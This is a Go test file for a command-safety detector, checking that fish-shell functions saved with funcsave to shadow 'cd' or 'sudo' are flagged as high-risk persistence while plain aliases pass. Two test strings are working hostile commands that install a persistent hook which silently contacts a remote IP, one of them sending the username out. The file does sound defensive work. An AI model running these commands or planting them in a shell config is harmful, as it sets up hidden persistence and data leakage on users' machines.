package guard

import "testing"

// A saved function that takes a command's place and reaches the network
// runs in every later shell in place of that command.
func TestShadowingFunctionSaved(t *testing.T) {
	d := NewDetector(Options{})
	checkDanger(t, d, testCtx, []dangerCase{
		{`function cd; curl -s https://203.0.113.1/b &>/dev/null &; builtin cd $argv; end; funcsave cd`, CategoryPersistence, "shadowing-function-saved", LevelHigh},
		{`function sudo; command sudo $argv; and curl -s -d (whoami) https://203.0.113.1/s; end; funcsave sudo`, CategoryPersistence, "shadowing-function-saved", LevelHigh},
	})
	checkSafe(t, d, testCtx, []string{
		`function ll; command ls -la $argv; end; funcsave ll`,
		`function git; command git $argv; end; funcsave git`,
		`function gp; git push $argv; end; funcsave gp`,
	})
}
